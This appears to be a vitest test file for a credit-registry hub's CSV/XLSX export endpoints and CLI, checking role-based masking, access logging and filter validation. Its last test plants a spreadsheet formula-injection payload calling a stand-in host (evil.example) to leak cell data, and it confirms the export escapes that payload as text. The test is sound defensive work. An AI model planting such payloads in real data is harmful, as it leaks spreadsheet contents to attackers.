/**
 * Exports (GET /export/<department>.csv|.xlsx at the gateway): for every role, with and
 * without a stated purpose, the file holds exactly what the GraphQL entries query gives that
 * caller — the same entries, masked the same way — and unmasked reads reach the access register.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mintDevelopmentToken } from '../scripts/token.js';
import { organisationCode, random } from '../scripts/demo-data.js';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { callerHeaders, startTestHub, type TestHub } from './env.js';
import type { TokenClaims } from '../scripts/token.js';
import { CONSOLIDATED_COLUMNS, CONSOLIDATED_SELECTION, ENTRY_COLUMNS, ENTRY_SELECTION, WARNING_LIST_COLUMNS, WARNING_LIST_SELECTION } from '../gateway/export/columns.js';

const PURPOSE = { purpose: '授信前尽职调查', reference: 'SX-2026-0077' };
const CALLERS: [string, TokenClaims | null][] = [
  ['public', null],
  ['agency', { role: 'agency', agency: '某市财政局', sub: 'agency-export' }],
  ['agency without scopes', { role: 'agency', agency: '某市财政局', sub: 'agency-export-none', scopes: [] }],
  ['red-only agency', { role: 'agency', agency: '某市财政局', sub: 'agency-export-red', scopes: ['read:red'] }],
  ['partner', { role: 'partner', agency: '某银行', sub: 'partner-export' }],
  ['red-only partner', { role: 'partner', agency: '某行业协会', sub: 'partner-export-red', scopes: ['read:red'] }],
  ['auditor', { role: 'auditor', sub: 'auditor-export' }],
  ['admin', { role: 'admin', sub: 'admin-export' }],
  ['courts officer', { role: 'officer', department: 'courts', sub: 'officer-export-courts' }],
  ['tax officer', { role: 'officer', department: 'tax', sub: 'officer-export-tax' }],
];

let hub: TestHub;
const exportUrl = (path: string) => new URL(path, hub.url).toString();

/** Every page of courtsEntries for a caller, as rows of the export's columns. */
async function apiRows(claims: TokenClaims | null, purpose?: typeof PURPOSE): Promise<string[][]> {
  const rows: string[][] = [];
  let after: string | null = null;
  for (;;) {
    const { data, errors }: { data?: any; errors?: unknown[] } = await hub.queryAs(
      claims,
      `query($after: String) { courtsEntries(first: 100, after: $after) { edges { node { ${ENTRY_SELECTION} } } pageInfo { hasNextPage endCursor } } }`,
      { after },
      purpose,
    );
    expect(errors).toBeUndefined();
    for (const { node } of data.courtsEntries.edges) rows.push(ENTRY_COLUMNS.map((c) => String(c.value(node) ?? '')));
    if (!data.courtsEntries.pageInfo.hasNextPage) return rows;
    after = data.courtsEntries.pageInfo.endCursor;
  }
}

async function exportCsv(claims: TokenClaims | null, purpose?: typeof PURPOSE, query = '') {
  const response = await fetch(exportUrl(`/export/courts.csv${query}`), { headers: await callerHeaders(claims, purpose) });
  const text = await response.text();
  return { response, text, rows: response.ok ? (parse(text, { bom: true }) as string[][]) : [] };
}

const ACCESS_REGISTER = `query($code: ID) { accessRegister(filter: { subjectCode: $code }, first: 100) { edges { node { principalId fields } } } }`;

beforeAll(async () => {
  // Small pages, so that every export below crosses many of them (and the read-ahead).
  process.env.EXPORT_PAGE_SIZE = '7';
  hub = await startTestHub({ subjects: 300 });
  await hub.hub.settle();
});
afterAll(async () => {
  delete process.env.EXPORT_PAGE_SIZE;
  await hub?.stop();
});

describe('GET /export/<department>.csv', () => {
  for (const [name, claims] of CALLERS) {
    for (const purpose of [undefined, PURPOSE]) {
      it(`gives the ${name} ${purpose ? 'with' : 'without'} a purpose exactly what the API gives`, async () => {
        const { response, rows } = await exportCsv(claims, purpose);
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
        const [header, ...body] = rows;
        expect(header).toEqual(ENTRY_COLUMNS.map((c) => c.name));
        const expected = await apiRows(claims, purpose);
        expect(body).toEqual(expected);
        const persons = body.filter((row) => row[header.indexOf('subjectType')] === 'NATURAL_PERSON');
        const masked = persons.some((row) => row[header.indexOf('creditCode')].includes('*'));
        // The header says so whenever something was masked.
        if (masked) expect(response.headers.get('x-credithub-personal-data')).toMatch(/^masked; /);
      });
    }
  }

  it('holds unmasked natural persons only for a role that may read them with a purpose, and registers each read', async () => {
    const admin = CALLERS.find(([name]) => name === 'admin')![1];
    const { rows } = await exportCsv(admin, PURPOSE);
    const [header, ...body] = rows;
    const person = body.find((row) => row[header.indexOf('subjectType')] === 'NATURAL_PERSON')!;
    const code = person[header.indexOf('creditCode')];
    expect(code).toMatch(/^\d{17}[\dX]$/);
    const { data } = await hub.query(ACCESS_REGISTER, { code });
    expect(data.accessRegister.edges.map((e: any) => e.node.principalId)).toContain('admin-export');

    const masked = (await exportCsv(admin)).rows.slice(1).find((row) => row[0] === person[0])!;
    expect(masked[header.indexOf('creditCode')]).toMatch(/^\d{4}\*{10}[\dX]{4}$/);
    expect(masked[header.indexOf('subjectName')]).toMatch(/^.\*+$/);
  });

  it('filters like the entries query, and refuses what the caller may not see with its status', async () => {
    const partner = CALLERS.find(([name]) => name === 'red-only partner')![1];
    const refused = await exportCsv(partner, undefined, '?listType=BLACK');
    expect(refused.response.status).toBe(403);
    expect(JSON.parse(refused.text).errors[0].extensions.code).toBe('FORBIDDEN');

    const black = await exportCsv(null, undefined, '?listType=BLACK&status=ACTIVE');
    expect(black.rows.length).toBeGreaterThan(1);
    expect(new Set(black.rows.slice(1).map((row) => row[3]))).toEqual(new Set(['BLACK']));

    const unknown = await exportCsv(null, undefined, '?colour=red');
    expect(unknown.response.status).toBe(400);
    expect(JSON.parse(unknown.text).errors[0].message).toMatch(/unknown parameter "colour"/);

    const badToken = await fetch(exportUrl('/export/courts.csv'), { headers: { authorization: 'Bearer nonsense' } });
    expect(badToken.status).toBe(401);
    expect((await badToken.json()).errors[0].extensions.code).toBe('UNAUTHENTICATED');

    const post = await fetch(exportUrl('/export/courts.csv'), { method: 'POST' });
    expect(post.status).toBe(405);
  });

  it('refuses a filter value the API would refuse, naming it', async () => {
    const colour = await exportCsv(null, undefined, '?listType=PURPLE');
    expect(colour.response.status).toBe(400);
    const error = JSON.parse(colour.text).errors[0];
    expect(error.extensions.code).toBe('BAD_USER_INPUT');
    expect(error.message).toMatch(/^filter\.listTypes(\[0\])?: .*PURPLE/);
    const region = await exportCsv(null, undefined, '?regionCode=44x');
    expect(region.response.status).toBe(400);
    expect(JSON.parse(region.text).errors[0].message).toMatch(/"44x" is not an administrative division code/);
  });

  it('gives the change feed\'s cursor at snapshot time: following the feed from it misses no later change', async () => {
    const courts: TokenClaims = { role: 'officer', department: 'courts', sub: 'officer-export-feed' };
    const { response, rows } = await exportCsv(courts);
    const cursor = response.headers.get('x-credithub-feed-cursor')!;
    expect(cursor).toBeTruthy();
    const exported = new Set(rows.slice(1).map((row) => row[0]));

    // A change after the snapshot: not in the file, but in the feed after its cursor.
    const recognised = await hub.queryAs(courts, `mutation($input: RecogniseInput!) { courts { recognise(input: $input) { id } } }`, {
      input: {
        listKind: 'DISHONEST_JUDGMENT_DEBTOR', creditCode: organisationCode(random(5151), '440300'), subjectName: '某贸易有限公司', facts: '拒不履行',
        validUntil: '2030-01-01', repair: { repairable: true, method: '履行义务', rectificationDeadline: '2029-01-01' }, externalReference: '（2026）粤0304执-快照',
      },
    });
    expect(recognised.errors).toBeUndefined();
    const id = recognised.data.courts.recognise.id;
    expect(exported.has(id)).toBe(false);
    await hub.hub.settle();
    const FEED = `query($after: String) { changes(after: $after, first: 500, filter: { domains: [COURTS] }) { edges { cursor node { entryId type } } pageInfo { hasNextPage } } }`;
    const since = await hub.queryAs(courts, FEED, { after: cursor });
    expect(since.errors).toBeUndefined();
    expect(since.data.changes.edges.map((e: any) => e.node.entryId)).toContain(id);

    // Up to the cursor: the feed holds nothing the snapshot lacks (every entry it names is in the file).
    const positionOf = (c: string) => JSON.parse(Buffer.from(c, 'base64url').toString('utf8'))[1] as number;
    const all = await hub.queryAs(courts, FEED, { after: null });
    expect(all.data.changes.pageInfo.hasNextPage).toBe(false);
    const upTo = all.data.changes.edges.filter((e: any) => positionOf(e.cursor) <= positionOf(cursor) && e.node.type !== 'ENTRY_PURGED');
    expect(upTo.length).toBeGreaterThan(0);
    expect(upTo.filter((e: any) => !exported.has(e.node.entryId))).toEqual([]);
  });

});

describe('GET /export/<department>.xlsx', () => {
  it('holds the same rows as the CSV export, typed cells aside', async () => {
    const auditor = CALLERS.find(([name]) => name === 'auditor')![1];
    const csv = (await exportCsv(auditor, PURPOSE)).rows;
    const response = await fetch(exportUrl('/export/courts.xlsx'), { headers: await callerHeaders(auditor, PURPOSE) });
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as any);
    const rows: string[][] = [];
    workbook.worksheets[0].eachRow((row) => {
      rows.push(ENTRY_COLUMNS.map((_, i) => String(row.getCell(i + 1).value ?? '')));
    });
    expect(rows).toEqual(csv);
  });
});

describe('GET /export/platform/…', () => {
  const CONSOLIDATED = `query($filter: ConsolidatedListFilter, $after: String) { consolidatedList(filter: $filter, first: 100, after: $after) {
    edges { node { ${CONSOLIDATED_SELECTION} } } pageInfo { hasNextPage endCursor } } }`;
  const WARNING_LIST = `query($after: String) { warningList(first: 100, after: $after) { edges { node { ${WARNING_LIST_SELECTION} } } pageInfo { hasNextPage endCursor } } }`;

  async function listRows(claims: TokenClaims | null, query: string, field: string, columns: typeof ENTRY_COLUMNS, filter?: unknown, purpose?: typeof PURPOSE) {
    const rows: string[][] = [];
    let after: string | null = null;
    for (;;) {
      const { data, errors }: { data?: any; errors?: unknown[] } = await hub.queryAs(claims, query, { filter, after }, purpose);
      expect(errors).toBeUndefined();
      for (const { node } of data[field].edges) rows.push(columns.map((c) => String(c.value(node) ?? '')));
      if (!data[field].pageInfo.hasNextPage) return rows;
      after = data[field].pageInfo.endCursor;
    }
  }

  const auditor = CALLERS.find(([name]) => name === 'auditor')![1];
  const partner = CALLERS.find(([name]) => name === 'partner')![1];

  for (const [name, claims, purpose] of [['auditor with a purpose', auditor, PURPOSE], ['partner', partner, undefined]] as const) {
    it(`gives the ${name} the consolidated list exactly as consolidatedList does`, async () => {
      const response = await fetch(exportUrl('/export/platform/consolidated.csv?listType=BLACK&minDomains=1'), { headers: await callerHeaders(claims, purpose) });
      expect(response.status).toBe(200);
      expect(response.headers.get('x-credithub-feed-cursor')).toBeTruthy();
      const [header, ...body] = parse(await response.text(), { bom: true }) as string[][];
      expect(header).toEqual(CONSOLIDATED_COLUMNS.map((c) => c.name));
      expect(body.length).toBeGreaterThan(0);
      expect(body).toEqual(await listRows(claims, CONSOLIDATED, 'consolidatedList', CONSOLIDATED_COLUMNS, { listType: 'BLACK', minDomains: 1 }, purpose));
      // Natural persons only with a purpose, to a role that may read them.
      const persons = body.filter((row) => row[header.indexOf('subjectType')] === 'NATURAL_PERSON');
      if (!purpose) expect(persons).toEqual([]);
    });
  }

  it('gives the warning list as warningList does, and refuses what consolidatedList refuses', async () => {
    const response = await fetch(exportUrl('/export/platform/warning-list.csv'), { headers: await callerHeaders(auditor, PURPOSE) });
    expect(response.status).toBe(200);
    const [header, ...body] = parse(await response.text(), { bom: true }) as string[][];
    expect(header).toEqual(WARNING_LIST_COLUMNS.map((c) => c.name));
    expect(body).toEqual(await listRows(auditor, WARNING_LIST, 'warningList', WARNING_LIST_COLUMNS, undefined, PURPOSE));

    const redOnly = CALLERS.find(([name]) => name === 'red-only partner')![1];
    const refused = await fetch(exportUrl('/export/platform/consolidated.csv?listType=BLACK'), { headers: await callerHeaders(redOnly) });
    expect(refused.status).toBe(403);
    expect((await refused.json()).errors[0].extensions.code).toBe('FORBIDDEN');
    const badNumber = await fetch(exportUrl('/export/platform/consolidated.csv?minDomains=two'), { headers: await callerHeaders(auditor) });
    expect(badNumber.status).toBe(400);
    expect((await badNumber.json()).errors[0].message).toMatch(/"minDomains" must be a whole number/);
  });
});

describe('npm run export', () => {
  const partner = () => CALLERS.find(([name]) => name === 'partner')![1]!;
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'credithub-export-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  /** The CLI as the partner, in a process of its own. */
  const cli = async (args: string[]) =>
    promisify(execFile)(process.execPath, ['--import', 'tsx', 'scripts/export/main.ts', ...args, '--url', hub.url], {
      env: { ...process.env, CREDITHUB_TOKEN: await mintDevelopmentToken(partner()) },
    });

  it('writes the file the endpoint serves for the caller, masked alike', { timeout: 60_000 }, async () => {
    const out = join(dir, 'courts.csv');
    const { stdout } = await cli(['--department', 'courts', '--out', out, '--status', 'ACTIVE']);
    expect(stdout).toMatch(/courts\.csv written \(personal data masked; /);
    expect(existsSync(`${out}.part`)).toBe(false);
    const served = await exportCsv(partner(), undefined, '?status=ACTIVE');
    expect(parse(readFileSync(out), { bom: true })).toEqual(served.rows);
  });

  it('writes the platform\'s consolidated list as the endpoint serves it, and says where to follow the feed from', { timeout: 60_000 }, async () => {
    const out = join(dir, 'consolidated.csv');
    const { stdout } = await cli(['--platform', 'consolidated', '--list-type', 'BLACK', '--out', out]);
    expect(stdout).toMatch(/consolidated\.csv written/);
    expect(stdout).toMatch(/follow the change feed from: changes\(after: "[A-Za-z0-9_-]+"\)/);
    const served = await fetch(exportUrl('/export/platform/consolidated.csv?listType=BLACK'), { headers: await callerHeaders(partner()) });
    expect(parse(readFileSync(out), { bom: true })).toEqual(parse(await served.text(), { bom: true }));

    const wrong = await cli(['--platform', 'warning-list', '--status', 'ACTIVE', '--out', out]).catch((error) => error);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/^Cannot export: --status is for a department's lists/);
  });
});

// Last: the entry it records would differ between the CSV (escaped) and the XLSX (a string cell) above.
describe('CSV and formulas', () => {
  it('writes a recorded formula as text, so a spreadsheet does not run it', async () => {
    const courts: TokenClaims = { role: 'officer', department: 'courts', sub: 'officer-export-formula' };
    const formula = '=HYPERLINK("http://evil.example/?"&F3,"详情")';
    const recognised = await hub.queryAs(courts, `mutation($input: RecogniseInput!) { courts { recognise(input: $input) { id } } }`, {
      input: {
        listKind: 'DISHONEST_JUDGMENT_DEBTOR', creditCode: organisationCode(random(4242), '440300'), subjectName: formula, facts: '+1+1',
        validUntil: '2030-01-01', repair: { repairable: true, method: '履行义务', rectificationDeadline: '2029-01-01' }, externalReference: '（2026）粤0304执-公式',
      },
    });
    expect(recognised.errors).toBeUndefined();
    const { text } = await exportCsv(courts);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&F3,""详情"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
